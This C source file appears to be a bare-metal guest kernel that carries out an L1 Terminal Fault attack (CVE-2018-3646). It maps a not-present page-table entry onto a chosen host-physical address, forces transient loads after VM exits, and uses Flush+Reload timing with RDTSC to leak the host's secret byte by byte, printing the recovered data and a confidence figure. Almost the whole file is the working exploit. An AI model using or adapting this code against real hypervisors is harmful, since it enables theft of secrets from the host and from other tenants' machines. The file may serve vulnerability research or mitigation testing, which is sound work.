/* l1tf: an L1 Terminal Fault attack (CVE-2018-3646) on a host secret, by Flush+Reload.
 *
 * Command line: secret=<host-physical address> [len=N] [rounds=R]. The guest maps a page through a
 * page-table entry with P=0 whose address bits name the secret's host page, loads through it after a
 * VM exit (the host's exit path reads the secret), and finds which probe line the transient load
 * touched by timing reloads with RDTSC. It prints each byte, the whole secret and how sure it is. */
#include <stdint.h>
#include "io.h"
#include "l1tf.h"
#include "multiboot.h"
#include "print.h"
#include "serial.h"
#include "str.h"

#define ATTACK_PDE	256		/* the not-present mapping lives at 1 GiB */
#define IDENTITY_PDES	64		/* 4 MiB pages identity-mapping the first 256 MiB */
#define PG_P		0x1
#define PG_RW		0x2
#define PG_PS		0x80
#define MAX_LEN		256

void leak_once(const uint8_t *target, const uint8_t *probe);
uint32_t time_load(const volatile uint8_t *p);
void pf_entry(void);
void unexpected_entry(void);

static uint32_t page_directory[1024] __attribute__((aligned(4096)));
static uint32_t attack_table[1024] __attribute__((aligned(4096)));
static uint8_t probe[256 * PROBE_STRIDE] __attribute__((aligned(4096)));

struct idt_gate {
	uint16_t offset_low, selector;
	uint8_t zero, type;
	uint16_t offset_high;
} __attribute__((packed));
static struct idt_gate idt[32];

void unexpected_trap(void)
{
	serial_puts("l1tf: unexpected exception\r\n");
	halt();
}

static void idt_init(void)
{
	struct { uint16_t limit; uint32_t base; } __attribute__((packed)) descriptor = { sizeof(idt) - 1, (uint32_t)idt };

	for (int v = 0; v < 32; v++) {
		uint32_t entry = (uint32_t)(v == 14 ? pf_entry : unexpected_entry);

		idt[v].offset_low = (uint16_t)entry;
		idt[v].selector = 0x08;
		idt[v].zero = 0;
		idt[v].type = 0x8E;
		idt[v].offset_high = (uint16_t)(entry >> 16);
	}
	__asm__ volatile("lidt %0" : : "m"(descriptor));
}

/* 32-bit paging with 4 MiB pages for ourselves, and 4 KiB entries with P=0 naming the secret's host pages. */
static const uint8_t *paging_init(uint32_t secret_hpa)
{
	for (uint32_t i = 0; i < IDENTITY_PDES; i++)
		page_directory[i] = (i << 22) | PG_PS | PG_RW | PG_P;
	page_directory[ATTACK_PDE] = (uint32_t)attack_table | PG_RW | PG_P;
	attack_table[0] = secret_hpa & 0xFFFFF000;		/* not present: only the address bits are set */
	attack_table[1] = (secret_hpa & 0xFFFFF000) + 0x1000;
	__asm__ volatile("movl %%cr4, %%eax; orl $0x10, %%eax; movl %%eax, %%cr4\n\t"	/* CR4.PSE */
			 "movl %0, %%cr3\n\t"
			 "movl %%cr0, %%eax; orl $0x80000000, %%eax; movl %%eax, %%cr0"
			 : : "r"(page_directory) : "eax", "memory");
	return (const uint8_t *)((ATTACK_PDE << 22) | (secret_hpa & 0xFFF));
}

static inline void clflush(const volatile void *p)
{
	__asm__ volatile("clflush (%0)" : : "r"(p) : "memory");
}

static uint32_t length(const char *s)
{
	uint32_t n = 0;

	while (s[n])
		n++;
	return n;
}

/* name=value from the command line: hex (0x optional) for hex=1, else decimal; `fallback` if absent. */
static uint32_t arg(const struct multiboot_info *mbi, const char *name, int hex, uint32_t fallback)
{
	const char *at;
	uint64_t wide;
	uint32_t value;

	if (!(mbi->flags & MBI_FLAG_CMDLINE) || !(at = str_find((const char *)mbi->cmdline, name)))
		return fallback;
	if (hex)
		return parse_hex(at + length(name), &wide) ? (uint32_t)wide : fallback;
	return parse_dec(at + length(name), &value) ? value : fallback;
}

/* A hit and a miss, timed the way the attack times its reloads; the threshold sits between them. */
static uint32_t calibrate(void)
{
	uint32_t hit, miss;

	time_load(&probe[0]);
	hit = time_load(&probe[0]);
	clflush(&probe[0]);
	miss = time_load(&probe[0]);
	serial_puts("l1tf: calibration: hit ");
	print_dec(hit);
	serial_puts(" cycles, miss ");
	print_dec(miss);
	serial_puts(" cycles\r\n");
	if (hit >= miss) {
		serial_puts("l1tf: timing cannot tell L1D hits from misses (is hw.vmm.l1d_sim on?)\r\n");
		halt();
	}
	return (hit + miss) / 2;
}

/* One byte: the value whose probe line came back fast most often. Value 0 is what a load that found
 * nothing forwards, so it wins only when nothing else was seen (and then counts as not seen). */
static uint8_t leak_byte(const uint8_t *target, uint32_t rounds, uint32_t threshold, uint32_t *seen)
{
	static uint32_t hits[256];
	uint32_t best = 0;

	for (int v = 0; v < 256; v++)
		hits[v] = 0;
	for (uint32_t r = 0; r < rounds; r++) {
		for (int v = 0; v < 256; v++)
			clflush(&probe[v * PROBE_STRIDE]);
		leak_once(target, probe);
		for (int v = 0; v < 256; v++)
			if (time_load(&probe[v * PROBE_STRIDE]) < threshold)
				hits[v]++;
	}
	for (int v = 1; v < 256; v++)
		if (hits[v] > hits[best] || best == 0)
			best = hits[v] ? v : best;
	*seen = best ? hits[best] : 0;
	return (uint8_t)best;
}

static void print_byte(uint8_t b)
{
	const char *digits = "0123456789abcdef";

	serial_putc(digits[b >> 4]);
	serial_putc(digits[b & 15]);
}

void kmain(uint32_t magic, const struct multiboot_info *mbi)
{
	static uint8_t leaked[MAX_LEN];
	uint32_t secret, len, rounds, threshold, sure = 0, seen;
	const uint8_t *target;

	(void)magic;
	serial_init();
	secret = arg(mbi, "secret=", 1, 0);
	len = arg(mbi, "len=", 0, 64);
	rounds = arg(mbi, "rounds=", 0, 3);
	if (!secret || len == 0 || len > MAX_LEN || rounds == 0) {
		serial_puts("l1tf: usage: secret=<host-physical address> [len=1..256] [rounds=N]\r\n");
		halt();
	}
	idt_init();
	target = paging_init(secret);
	serial_puts("l1tf: reading host-physical 0x");
	print_hex32(secret);
	serial_puts(" through a not-present PTE\r\n");
	threshold = calibrate();
	for (uint32_t i = 0; i < len; i++) {
		leaked[i] = leak_byte(target + i, rounds, threshold, &seen);
		sure += seen;
		serial_puts("l1tf: byte ");
		print_dec(i);
		serial_puts(" = ");
		print_byte(leaked[i]);
		serial_puts(" (");
		print_dec(seen);
		serial_puts("/");
		print_dec(rounds);
		serial_puts(")\r\n");
	}
	serial_puts("l1tf: leaked ");
	for (uint32_t i = 0; i < len; i++)
		print_byte(leaked[i]);
	serial_puts("\r\nl1tf: confidence ");
	print_dec(sure * 100 / (len * rounds));
	serial_puts("%\r\n");
	halt();
}
